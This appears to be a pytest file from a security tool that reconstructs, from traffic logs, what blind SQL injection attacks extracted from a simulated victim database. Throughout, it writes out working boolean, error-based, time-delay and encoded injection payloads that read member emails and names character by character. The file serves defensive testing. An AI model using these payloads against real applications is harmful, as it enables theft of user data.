"""Whatever way a tool asks, what it read comes out of the log: exactly that, and no more."""

from __future__ import annotations

from base64 import b64encode
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.engine.exposures.transcripts.victim import (
    PEOPLE,
    Coding,
    Victim,
    plainly,
    read_by_bisection,
    read_by_trial,
    rebuilt,
)

pytestmark = pytest.mark.first_quick

_LETTERS = "abcdefghijklmnopqrstuvwxyz@.%_"
_EMAIL = "(SELECT email FROM members ORDER BY id LIMIT 0,1)"
_AOI = PEOPLE[0][1]
_BY_NAME = "(SELECT email FROM members WHERE name='aoi')"
_COMPLETE = ("members.email", _AOI, "complete")


def _told(victim: Victim, folder: Path) -> list[tuple[str, str, str]]:
    values, understood = rebuilt(victim, folder)
    assert understood
    assert all(way.oracle is not None for way in understood)
    return [(field, value, state) for field, _, value, state in values]


@pytest.mark.parametrize(
    ("around", "code"),
    [
        ("1' AND {} AND '1'='1", f"ORD(MID({_EMAIL},{{}},1))"),
        ("x' OR {}-- ", f"ASCII(SUBSTR({_EMAIL},{{}},1))"),
        ("1' AND (SELECT CASE WHEN {} THEN 1 ELSE 0 END)=1-- ", f"UNICODE(SUBSTR({_EMAIL},{{}},1))"),
        ("1'/**/AND/**/({})/**/AND/**/'a'='a", f"ORD(MID({_BY_NAME},{{}},1))"),
        ("x' OR 7=IF({},7,8) OR 'x'='y", f"ORD(MID({_BY_NAME},{{}},1))"),
        ("1' AND 1=(SELECT COUNT(*) FROM items WHERE {})-- ", f"ASCII(SUBSTR({_EMAIL},{{}}))"),
        ("1' AND EXISTS(SELECT 1 FROM members WHERE name='aoi' AND {})-- ", "ASCII(SUBSTR(email,{},1))"),
        ("1' AND {} AND '1'='1", "(SELECT ASCII(SUBSTR(email,{},1)) FROM members WHERE name='aoi')"),
        # As tables in mixed letters have to be named.
        ("1' AND {} AND '1'='1", "(SELECT ASCII(SUBSTR(email,{},1)) FROM \"members\" WHERE name='aoi')"),
        ("x' OR {}-- ", 'ASCII(SUBSTR((SELECT "m"."email" FROM "members" AS "m" ORDER BY id LIMIT 1),{},1))'),
    ],
)
def test_bisections_are_followed_through_any_frame(around: str, code: str, tmp_path: Path) -> None:
    victim = Victim()
    assert read_by_bisection(lambda question: victim.asks(around.format(question)), code) == _AOI
    assert _told(victim, tmp_path) == [_COMPLETE]


def test_turned_answers_are_told_from_the_traffic(tmp_path: Path) -> None:
    victim = Victim()
    told = read_by_bisection(lambda q: not victim.asks(f"1' AND NOT({q})-- "), f"ORD(MID({_EMAIL},{{}},1))")
    assert told == _AOI
    assert _told(victim, tmp_path) == [_COMPLETE]


def test_errors_on_condition_are_answers(tmp_path: Path) -> None:
    victim = Victim()
    failing = "x'||(SELECT CASE WHEN {} THEN abs(-9223372036854775808) ELSE '' END)||'"
    told = read_by_bisection(lambda q: victim.asks(failing.format(q)), f"ASCII(SUBSTR({_EMAIL},{{}},1))")
    assert told == _AOI
    assert _told(victim, tmp_path) == [_COMPLETE]


def test_delays_are_answers_where_pages_are_alike(tmp_path: Path) -> None:
    victim = Victim()
    slow = "1' AND (SELECT 5 FROM (SELECT(SLEEP(2-(IF({},0,2)))))x)-- "
    told = read_by_bisection(lambda q: victim.asks(slow.format(q)), f"ORD(MID({_EMAIL},{{}},1))")
    assert told == _AOI
    assert _told(victim, tmp_path) == [_COMPLETE]


@pytest.mark.parametrize(
    "question",
    [
        f"SUBSTR({_EMAIL},{{0}},1)='{{2}}'",
        f"MID({_EMAIL},{{0}},1) IN ('{{2}}')",
        f"SUBSTR({_EMAIL},1,{{0}})='{{1}}'",
        f"HEX(SUBSTR({_EMAIL},{{0}},1))=HEX('{{2}}')",
        f"ORD(MID({_EMAIL},{{0}},1)) BETWEEN ORD('{{2}}') AND ORD('{{2}}')",
    ],
)
def test_letters_tried_one_by_one_are_known(question: str, tmp_path: Path) -> None:
    victim = Victim()
    told = read_by_trial(lambda q: victim.asks(f"1' AND {q}-- "), question, _LETTERS)
    size = next(n for n in range(60) if not victim.asks(f"1' AND CHAR_LENGTH({_EMAIL})>{n}-- "))
    assert (told, size) == (_AOI, len(_AOI))
    assert _told(victim, tmp_path) == [_COMPLETE]


@pytest.mark.parametrize(
    "question", ["email LIKE '{1}%' ESCAPE '\\'", "email GLOB '{1}*'", "email REGEXP '^{1}'"]
)
def test_beginnings_tried_longer_and_longer_are_known(question: str, tmp_path: Path) -> None:
    victim = Victim()
    row = "1' AND EXISTS(SELECT 1 FROM members WHERE name='aoi' AND {})-- "
    told = read_by_trial(lambda q: victim.asks(row.format(q)), question, _LETTERS[:-3].replace("_", "") + "@")
    assert told == "aoi@mail"
    assert _told(victim, tmp_path) == [("members.email", "aoi@mail", "partial")]


def test_bits_asked_one_by_one_make_characters(tmp_path: Path) -> None:
    victim = Victim()
    for place in range(1, len(_AOI) + 2):
        for bit in range(8):
            victim.asks(f"1' AND (ASCII(SUBSTR({_EMAIL},{place},1))>>{bit})&1=1-- ")
    assert _told(victim, tmp_path) == [_COMPLETE]


def test_numbers_are_found_from_both_sides(tmp_path: Path) -> None:
    victim = Victim()
    low, high = 0, 64
    while low < high:
        middle = (low + high) // 2
        if victim.asks(f"1' AND (SELECT COUNT(*) FROM members)>{middle}-- "):
            low = middle + 1
        else:
            high = middle
    assert low == len(PEOPLE)
    assert _told(victim, tmp_path) == [("COUNT(*)", str(len(PEOPLE)), "enumerated")]


_CODINGS: dict[str, Coding] = {
    "as typed": plainly,
    "twice": lambda payload: quote(quote(payload, safe=""), safe=""),
    "every letter": lambda payload: "".join(f"%{byte:02X}" for byte in payload.encode()),
    "base64": lambda payload: quote(b64encode(payload.encode()).decode(), safe=""),
    "base64 for addresses": lambda p: b64encode(p.encode(), b"-_").decode().rstrip("="),
    "hexadecimal": lambda payload: payload.encode().hex(),
    "wide": lambda payload: "".join(f"%u{ord(c):04x}" for c in payload),
}


@pytest.mark.parametrize("coding", _CODINGS, ids=str)
def test_encodings_are_taken_off(coding: str, tmp_path: Path) -> None:
    victim = Victim(coding=_CODINGS[coding])
    read_by_bisection(lambda q: victim.asks(f"1' AND {q} AND '1'='1"), f"ORD(MID({_EMAIL},{{}},1))")
    assert _told(victim, tmp_path) == [_COMPLETE]


def test_characters_spelled_as_codes_are_read(tmp_path: Path) -> None:
    victim = Victim()
    question = f"SUBSTR({_EMAIL},{{0}},1)=CHAR({{1}})"
    for place, character in enumerate(_AOI, 1):
        for tried in sorted({*_AOI}):
            if victim.asks(f"1' AND {question.format(place, ord(tried))}-- ") and tried == character:
                break
    victim.asks(f"1' AND LENGTH({_EMAIL})={len(_AOI)}-- ")
    assert _told(victim, tmp_path) == [_COMPLETE]


def test_characters_of_other_scripts_are_read(tmp_path: Path) -> None:
    victim = Victim()
    name = "(SELECT name FROM members ORDER BY id LIMIT 2,1)"
    note = "(SELECT note FROM members ORDER BY id LIMIT 2,1)"
    for value in (name, note):
        read_by_bisection(
            lambda q: victim.asks(f"1' AND {q}-- "), f"UNICODE(SUBSTR({value},{{}},1))", most=0x2FFFF
        )
    assert _told(victim, tmp_path) == [
        ("members.name", PEOPLE[2][0], "complete"),
        ("members.note", PEOPLE[2][2], "complete"),
    ]


def test_values_of_several_columns_come_apart(tmp_path: Path) -> None:
    victim = Victim()
    joined = "(SELECT name||':'||email FROM members ORDER BY id LIMIT 0,1)"
    read_by_bisection(lambda q: victim.asks(f"1' AND {q}-- "), f"UNICODE(SUBSTR({joined},{{}},1))")
    assert _told(victim, tmp_path) == [_COMPLETE, ("members.name", "aoi", "complete")]
